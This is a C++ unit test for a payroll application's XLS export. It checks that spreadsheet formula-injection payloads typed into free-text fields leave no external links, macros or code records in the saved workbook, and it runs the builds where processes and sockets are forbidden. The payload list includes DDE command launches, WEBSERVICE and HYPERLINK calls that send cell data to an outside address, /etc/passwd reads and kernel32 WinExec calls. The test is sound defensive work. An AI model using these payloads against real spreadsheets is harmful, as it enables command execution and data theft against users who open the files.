// Texts that a spreadsheet could take for orders, typed into the free fields: the build starts nothing, connects to
// nothing, and leaves nothing in the result that another program would follow.

#include "app/base/Files.h"
#include "tests/reliability/engine/NoProcesses.h"
#include "tests/support/EmbeddedBuilds.h"
#include "tests/support/LongForm.h"
#include "tests/support/RecordedMessages.h"
#include "tests/support/TemporaryFolder.h"
#include "workbook/engine/xls/CompoundFile.h"
#include "workbook/engine/xls/RecordStream.h"
#include "workbook/engine/xls/RecordStrings.h"

#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <array>
#include <csignal>
#include <cstdio>
#include <map>

namespace wagemill::test {

namespace {

constexpr auto prefixes = std::to_array<std::string_view>({"=", "+", "-", "@", "'"});

constexpr auto orders = std::to_array<std::string_view>({
    "cmd|'/c calc'!A1",
    "cmd|' /C notepad'!'A1'",
    "2+5+cmd|'/c calc'!A0",
    "SUM(1+1)*cmd|'/c calc'!A1",
    "DDE(\"cmd\",\"/c calc\",\"A1\")",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "HYPERLINK(\"http://198.51.100.1/\"&B4,\"click\")",
    "HYPERLINK(\"file:///etc/passwd\")",
    "WEBSERVICE(\"http://198.51.100.1/\"&B4)",
    "_xlfn.WEBSERVICE(\"http://198.51.100.1/\")",
    "IMPORTXML(\"http://198.51.100.1/\",\"//a\")",
    "IMAGE(\"http://198.51.100.1/x.png\")",
    "'[evil.xls]Sheet1'!A1",
    "[evil.xls]Sheet1!A1",
    "'C:\\x\\[evil.xls]Sheet1'!$A$1",
    "'\\\\198.51.100.1\\share\\[evil.xls]Sheet1'!A1",
    "'http://198.51.100.1/[evil.xls]Sheet1'!A1",
    "'file:///etc/passwd'#$passwd.A1",
    "evil.xls!name",
    "INDIRECT(\"'[evil.xls]Sheet1'!A1\")",
    "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
    "REGISTER.ID(\"kernel32\",\"WinExec\")",
    "REGISTER(\"kernel32\",\"WinExec\",\"JCJ\",\"run\",,1,9)",
    "EXEC(\"calc\")",
    "RUN(\"evil.xls!Auto_Open\")",
    "Auto_Open",
    "Auto_Open()",
    "FOPEN(\"/etc/passwd\",1)",
    "FILES(\"*\")",
    "GET.WORKSPACE(1)",
    "EVALUATE(\"1+1\")",
    "SQL.REQUEST(\"DSN=x\",,2,\"select 1\")",
    "INITIATE(\"cmd\",\"x\")",
    "OPEN(\"evil.xls\")",
    "HALT()",
    "macro1()",
    "1+1",
    "SUM(B4:B28)",
    "'Payroll calculator'!L4",
    "\t=cmd|'/c calc'!A1",
});
static_assert(prefixes.size() * orders.size() == 200);

constexpr auto freeFields =
    std::to_array<std::string_view>({"company", "txtEmployeeID", "txtName", "txtTaxStatus", "txtFedAllowance"});

PayrollData dataWith(std::string_view field, const std::string& text)
{
    EmployeeRow row;
    for (std::size_t i = 0; i < rowFields.size(); ++i)
        row.texts[i] = rowFields[i].kind == FieldKind::FreeText ? "E1" : "12.5";
    PayrollData data{{"ACME Inc", "3/31/2026"}, {row}};
    if (field == "company")
        data.header.companyName = text;
    else
        data.rows.front().texts[rowFieldIndex(field)] = text;
    return data;
}

/// Records that lead out of the workbook or hold code ([MS-XLS] 2.3.1).
const std::map<std::uint16_t, const char*> forbiddenRecords = {
    {0x0016, "EXTERNCOUNT"}, {0x0023, "EXTERNNAME"}, {0x0050, "DCON"},    {0x0051, "DCONREF"}, {0x0052, "DCONNAME"},
    {0x0059, "XCT"},         {0x005A, "CRN"},        {0x005D, "OBJ"},     {0x00D3, "OBPROJ"},  {0x00DC, "DBQUERY"},
    {0x01BA, "CODENAME"},    {0x01AD, "QSI"},        {0x01B5, "DCONBIN"}, {0x01B8, "HLINK"},   {0x0800, "HLINKTOOLTIP"},
    {0x0801, "WEBPUB"},      {0x0803, "DBQUERYEXT"}, {0x0813, "RTD"},
};

/// Whether a name stands for a formula, or is one to which the application gives a meaning.
bool isMore(std::span<const std::byte> name)
{
    ByteReader reader(name);
    reader.skip(3);
    const std::size_t length = reader.u8();
    const bool hasFormula = reader.u16() != 0;
    reader.skip(8);
    const std::string text = engine::xls::readStringWithoutCount(reader, length);
    return hasFormula || text.starts_with("_") || text.starts_with("Auto_");
}

/// What the workbook holds that it must not.
std::string offenceIn(const std::vector<std::byte>& file)
{
    constexpr std::uint16_t supportingBook = 0x01AE;
    constexpr std::size_t ownBookSize = 4;
    constexpr std::uint16_t sheetList = 0x0085;
    constexpr std::uint16_t definedName = 0x0018;
    constexpr std::byte builtInName{0x20}; // such as the rows that are printed on every page
    const auto streams = engine::xls::readCompoundFile(file);
    for (const auto& stream : streams) {
        const std::string& name = stream.path.front();
        if (name != "Workbook" && name != "\x05SummaryInformation" &&
            name != "\x05"
                    "DocumentSummaryInformation")
            return "the stream " + name;
        if (name != "Workbook")
            continue;
        engine::xls::RecordReader reader(stream.data);
        for (engine::xls::Record record; reader.next(record);) {
            if (const auto found = forbiddenRecords.find(record.id); found != forbiddenRecords.end())
                return std::string("a record ") + found->second;
            if (record.id == supportingBook && record.data.size() != ownBookSize)
                return "an external book";
            if (record.id == definedName && (record.data[0] & builtInName) == std::byte{0} && isMore(record.data))
                return "a name that is more than unknown";
            if (record.id == sheetList && record.data[5] != std::byte{0})
                return "a sheet that is no worksheet";
        }
    }
    return "";
}

/// Builds with every payload in every field; the number of builds that went wrong.
int buildAll()
{
    const TemporaryFolder folder;
    const ScopedEnvironment temporary("TEMP", folder.path().string());
    const RecordedMessages messages; // an order that is no formula is refused in the error dialog
    EmbeddedBuilds builds;
    const int step = shortOrLong(WAGEMILL_SANITIZED ? 7 : 1, 1); // of no common factor with the fields
    int wrong = 0;
    int number = 0;
    for (const std::string_view prefix : prefixes)
        for (const std::string_view order : orders)
            for (const std::string_view field : freeFields) {
                if (++number % step != 0)
                    continue;
                const std::string text = std::string(prefix) + std::string(order);
                const auto workbook = builds.build(dataWith(field, text));
                const std::string offence =
                    fileExists(workbook) ? offenceIn(readBytesFromFile(workbook)) : "no workbook was saved";
                deleteFileQuietly(workbook);
                if (offence.empty())
                    continue;
                std::printf("%s in %s: %s\n", text.c_str(), std::string(field).c_str(), offence.c_str());
                ++wrong;
            }
    std::printf("%d builds, %d wrong\n", number / step, wrong);
    std::fflush(stdout);
    return wrong;
}

/// How a process of its own ends that may start nothing and connect to nothing.
template <class Work>
int statusOfConfined(Work work)
{
    const pid_t child = fork();
    if (child == 0)
        _exit(forbidProcessesAndSockets() ? work() : 77);
    int status = 0;
    waitpid(child, &status, 0);
    return status;
}

bool isStopped(int status)
{
    return WIFSIGNALED(status) && WTERMSIG(status) == SIGSYS;
}

} // namespace

TEST(TypedPayloads, StartNothingConnectToNothingAndLeaveNoLink)
{
    const int probe = statusOfConfined([] { return socket(AF_INET, SOCK_STREAM, 0); });
    if (WIFEXITED(probe) && WEXITSTATUS(probe) == 77)
        GTEST_SKIP() << "the kernel, which is to forbid processes and sockets, has no filter for that";
    ASSERT_TRUE(isStopped(probe)) << "the filter lets a socket through";
    ASSERT_TRUE(isStopped(statusOfConfined([] { return fork(); }))) << "the filter lets a process through";

    // A sanitizer looks for leaks in a process of its own.
    ASSERT_TRUE(WAGEMILL_SANITIZED || forbidProcessesAndSockets());
    EXPECT_EQ(buildAll(), 0);
}

} // namespace wagemill::test
